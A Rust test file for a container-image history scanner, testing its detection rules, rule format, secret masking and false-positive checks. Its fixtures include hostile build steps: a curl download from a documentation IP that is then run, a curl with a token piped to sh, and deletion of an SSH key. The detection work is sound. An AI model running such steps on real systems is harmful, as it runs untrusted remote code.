//! Every rule against its own examples and near misses, and the form of the rules.

use model::{Digest, HistoryStep, ImageConfig, ImageFacts, Layer, LayerIndex};

use super::rule::Example;
use super::*;

/// The rules as they lie in the repository; those in the program are the same.
fn shipped() -> HistoryScanner {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules/history");
    let mut files: Vec<_> =
        std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let texts: Vec<String> =
        files.iter().map(|path| std::fs::read_to_string(path).unwrap()).collect();
    let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
    HistoryScanner::read(&texts).unwrap()
}

fn image(steps: &[&str]) -> ImageFacts {
    let history = steps.iter();
    let history =
        history.map(|text| HistoryStep { created_by: (*text).into(), ..HistoryStep::default() });
    let layers = (0_u32..).zip(steps).map(|(index, step)| Layer {
        index: LayerIndex(index),
        diff_id: Some(Digest::sha256(&[1; 32])),
        size_bytes: 1,
        created_by: Some((*step).into()),
        base: false,
    });
    ImageFacts {
        config: ImageConfig { history: history.collect(), ..ImageConfig::default() },
        layers: layers.collect(),
        ..ImageFacts::default()
    }
}

fn found(scanner: &HistoryScanner, example: &Example) -> Vec<Suspicion> {
    match example {
        Example::One(step) => scanner.scan(&image(&[step])),
        Example::Several(steps) => {
            scanner.scan(&image(&steps.iter().map(String::as_str).collect::<Vec<_>>()))
        }
    }
}

#[test]
fn every_rule_holds_for_its_examples_and_not_for_its_near_misses() {
    let scanner = shipped();
    let mut wrong = Vec::new();
    for rule in &scanner.rules.all {
        let rule = &rule.text;
        if rule.check.is_none() && (rule.examples.is_empty() || rule.near_misses.is_empty()) {
            wrong.push(format!("{}: needs an example and a near miss", rule.id));
        }
        for (examples, holds) in [(&rule.examples, true), (&rule.near_misses, false)] {
            for example in examples {
                let found = found(&scanner, example);
                let ids: Vec<&str> = found.iter().map(|hit| hit.step.rule.as_str()).collect();
                if ids.contains(&rule.id.as_str()) != holds {
                    wrong.push(format!("{}: {holds} expected: {example:?}: {ids:?}", rule.id));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_rules_are_in_the_program_and_well_formed() {
    let (built_in, shipped) = (HistoryScanner::built_in().unwrap(), shipped());
    assert_eq!(built_in.rule_count(), shipped.rule_count(), "a file of rules is not built in");
    shipped.rules.check().unwrap();
    assert!(built_in.rule_count() >= 60, "{}", built_in.rule_count());
    let ids: Vec<&str> = shipped.rules.all.iter().map(|rule| rule.text.id.as_str()).collect();
    for rule in &shipped.rules.all {
        let rule = &rule.text;
        let technique = |text: &String| {
            let number = text.strip_prefix('T').unwrap_or_default().replacen('.', "", 1);
            matches!(number.len(), 4 | 7) && number.bytes().all(|byte| byte.is_ascii_digit())
        };
        assert!(!rule.attack.is_empty() && rule.attack.iter().all(technique), "{}", rule.id);
        assert!(!rule.title.ends_with('.') && !rule.title.is_empty(), "{}", rule.id);
        assert!(rule.advice.ends_with('.'), "{}", rule.id);
        assert!(rule.covers.iter().all(|id| ids.contains(&id.as_str())), "{}", rule.id);
        assert!(rule.id.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'), "{}", rule.id);
    }
}

#[test]
fn a_step_is_told_with_its_layer_span_and_confirming_files() {
    let scanner = HistoryScanner::built_in().unwrap();
    let steps = [
        "/bin/sh -c #(nop) ADD file:base in / ",
        "RUN /bin/sh -c set -e; curl -o /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x # buildkit",
        "RUN /bin/sh -c rm /root/.ssh/id_rsa # buildkit",
    ];
    let mut found = scanner.scan(&image(&steps));
    for hit in &mut found {
        hit.confirm(&|layer, path| {
            matches!((layer.0, path), (1, "tmp/x") | (0, "root/.ssh/id_rsa"))
        });
    }
    let of = |rule: &str| &found.iter().find(|hit| hit.step.rule == rule).unwrap().step;
    let run = of("download-temp-run");
    assert_eq!(
        (run.layer, run.step, &run.confirmed_by[..]),
        (LayerIndex(1), 1, &["tmp/x".into()][..])
    );
    let span = run.span.unwrap();
    let said = &run.text[span.offset as usize..][..span.length as usize];
    assert!(said.starts_with("curl -o /tmp/x"), "{said}");
    // The layer below holds what this step deletes.
    assert_eq!(of("secret-deleted").confirmed_by, ["root/.ssh/id_rsa"]);
}

#[test]
fn secrets_in_a_step_are_masked() {
    let text = "RUN curl -H 'Authorization: tok3n' http://203.0.113.9/x | sh";
    let masked = HistoryScanner::built_in().unwrap().scan_masked(&image(&[text]), &|text| {
        text.find("tok3n").map(|at| at..at + 5).into_iter().collect()
    });
    assert!(!masked.is_empty());
    assert!(masked.iter().all(|hit| !hit.step.text.contains("tok3n")), "{masked:#?}");
}

/// Steps as careful builds write them, in the forms of several builders.
#[test]
fn careful_steps_show_nothing() {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/history/careful.txt");
    let text = std::fs::read_to_string(file).unwrap();
    let steps: Vec<&str> = text.lines().collect();
    assert!(steps.len() > 50);
    let found = shipped().scan(&image(&steps));
    let told: Vec<String> = found
        .iter()
        .map(|hit| format!("{}: {}", hit.step.rule, steps[hit.step.step as usize]))
        .collect();
    assert!(told.is_empty(), "{}", told.join("\n"));
}

#[test]
fn rules_that_cannot_hold_are_refused() {
    for (text, expect) in [
        ("- {id: a, title: A, severity: low, advice: B.}", "match"),
        ("- {id: a, title: A, severity: low, advice: B., match: [x]}", "scope"),
        ("- {id: a, title: A, severity: low, advice: B., scope: text, match: ['(']}", "a"),
        ("- {id: a, title: A, severity: awful, advice: B., scope: text, match: [x]}", "awful"),
        (
            "- {id: no-history, title: A, severity: low, advice: B., scope: text, match: [x]}",
            "twice",
        ),
        ("- {id: a, sheen: A}", "sheen"),
    ] {
        let error = HistoryScanner::with_rules(text).unwrap_err().to_string();
        assert!(error.contains(expect) && !error.contains('\n'), "{text}: {error}");
    }
    let more = "- {id: own, title: A, severity: low, advice: B., scope: text, match: [needle]}";
    let scanner = HistoryScanner::with_rules(more).unwrap();
    assert!(scanner.scan(&image(&["RUN needle"])).iter().any(|hit| hit.step.rule == "own"));
    assert_ne!(scanner.version(), HistoryScanner::built_in().unwrap().version());
}
